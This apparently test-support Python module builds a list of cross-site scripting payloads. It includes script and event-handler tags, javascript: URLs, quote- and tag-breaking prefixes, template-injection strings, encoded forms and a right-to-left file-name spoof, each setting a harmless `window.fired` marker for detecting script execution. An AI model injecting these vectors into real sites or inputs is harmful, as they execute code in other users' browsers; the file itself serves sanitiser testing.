"""Texts that become a script where a page makes markup of them: the common ways, each sets `window.fired`."""

FIRE = "window.fired=1"
_TAGS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<iframe src=javascript:parent.{}>",
    "<details open ontoggle={}>",
    "<video src=x onerror={}>",
    "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<a href=javascript:{} autofocus onfocus={}>x</a>",
    "<marquee onstart={}>x</marquee>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<style onload={}></style>",
    "<link rel=stylesheet href=x onerror={}>",
    "<form><button formaction=javascript:{}>x</button></form>",
    "<base href=javascript:{}//>",
    "<meta http-equiv=refresh content='0;javascript:{}'>",
)
_BREAKS = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "`;{}//",
    "${{{}}}",
    "</script>{}",
)
_PLAIN = (
    "javascript:{}",
    "{{{{constructor.constructor('{}')()}}}}",
    "'-{}-'",
    '";{}//',
    "\\u003cimg src=x onerror={}\\u003e",
)
PAYLOADS = tuple(
    dict.fromkeys(
        [tag.format(FIRE, FIRE) for tag in _TAGS]
        + [text.format(_TAGS[1].format(FIRE)) for text in _BREAKS]
        + [text.format(_TAGS[2].format(FIRE)) for text in _BREAKS]
        + [text.format(_TAGS[0].format(FIRE).upper()) for text in _BREAKS]
        + [text.format(_TAGS[7].format(FIRE)) for text in _BREAKS]
        + [text.format(FIRE) for text in _PLAIN]
        + [
            "&lt;img src=x onerror=window.fired=1&gt;",
            "%3Cimg src=x onerror=window.fired=1%3E",
            "\u202egnp.exe<img src=x>",
        ]
    )
)
